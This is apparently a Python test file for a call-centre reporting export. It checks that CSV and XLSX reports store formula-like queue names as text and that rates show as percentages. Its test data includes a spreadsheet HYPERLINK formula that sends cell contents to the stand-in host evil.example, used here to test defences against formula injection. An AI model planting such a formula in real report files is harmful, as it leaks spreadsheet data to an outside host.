"""Report files are read in spreadsheet programs: a key or name from outside (a phone system's
queue, reference data) must never run there as a formula."""

from __future__ import annotations

import csv
import io
from datetime import date

from openpyxl import load_workbook

from dispatch.core.texts import texts_for
from dispatch.reports.export import ReportTable, to_csv, to_xlsx

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"查看")', "+86 029", "@SUM(1)", "-2+3", "\tx"]


def _table() -> ReportTable:
    items = [{"period": "2026-11-23", "group": key, "name": "=1+1", "offered": 1, "answered": 0,
              "abandoned": 1, "transfers": 0, "answer_rate": 0.0, "average_wait_s": None,
              "average_handling_s": None} for key in [*FORMULAS, "-", "95598"]]
    columns = ("period", "group", "name", "offered", "answered", "abandoned", "transfers",
               "answer_rate", "average_wait_s", "average_handling_s")
    return ReportTable("calls", "queue", "day", date(2026, 11, 1), date(2026, 11, 30), columns, items)


def test_a_csv_keeps_a_formula_like_key_or_name_as_text() -> None:
    """Bugs: a queue named `=HYPERLINK(...)` written as it is (a spreadsheet runs it), the row
    without a value (`-`) or a plain key changed, the numbers turned into text."""
    rows = list(csv.reader(io.StringIO(to_csv(_table(), texts_for("zh-CN")).decode("utf-8-sig"))))
    assert [r[1] for r in rows[1:]] == [*("'" + f for f in FORMULAS), "-", "95598"]
    assert {r[2] for r in rows[1:]} == {"'=1+1"}
    assert rows[1][3:8] == ["1", "0", "1", "0", "0.0"] and rows[1][8] == ""


def test_an_xlsx_holds_every_key_and_name_as_a_text_cell() -> None:
    """Bug: openpyxl writes a text starting with `=` as a formula cell."""
    sheet = load_workbook(io.BytesIO(to_xlsx([_table()], texts_for("zh-CN")))).active
    rows = list(sheet.iter_rows(min_row=2))  # type: ignore[union-attr]
    assert [r[1].value for r in rows] == [*FORMULAS, "-", "95598"]
    assert all(r[1].data_type == "s" and r[2].data_type == "s" and r[2].value == "=1+1" for r in rows)
    assert [r[3].value for r in rows[:1]] == [1] and rows[0][3].data_type == "n"


def test_rates_are_shown_as_percentages() -> None:
    """A rate (接通率 0.3333) reads as 33.3% in the workbook and the console: the XLSX cell keeps the
    fraction with a percent format, the JSON names the rate columns (`percent`) for the console to
    format; counts, seconds and scores are not rates. Bug: rates showed as bare fractions."""
    from dispatch.reports.definitions import REPORTS
    from gateway.views.reports import table_json

    table = _table()
    sheet = load_workbook(io.BytesIO(to_xlsx([table], texts_for("zh-CN")))).active
    rate = table.columns.index("answer_rate")
    row = next(sheet.iter_rows(min_row=2))  # type: ignore[union-attr]
    assert row[rate].value == 0.0 and row[rate].number_format == "0.0%"
    assert row[table.columns.index("offered")].number_format == "General"
    assert table_json(table, texts_for("en"))["percent"] == ["answer_rate"]
    rates = {c for report in REPORTS.values() for c in report.percent}
    assert rates == {"answer_rate", "repeat_contact_rate", "first_contact_resolution", "satisfaction_rate",
                     "on_time_confirmation", "on_time_completion", "complaints_responded_7d_rate",
                     "complaints_resolved_10d_rate"}
